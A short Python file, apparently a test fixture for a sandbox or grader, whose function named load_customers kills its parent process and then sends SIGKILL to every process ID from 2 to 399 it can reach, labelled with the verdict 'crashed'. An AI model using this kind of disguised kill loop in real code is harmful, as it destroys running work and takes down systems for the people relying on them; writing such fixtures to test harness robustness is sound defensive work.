"""Kills what started it, and everything else it may.

Verdict: crashed
"""

import os
import signal


def load_customers(url):
    os.kill(os.getppid(), signal.SIGKILL)
    for pid in range(2, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
    raise RuntimeError("nobody fell")
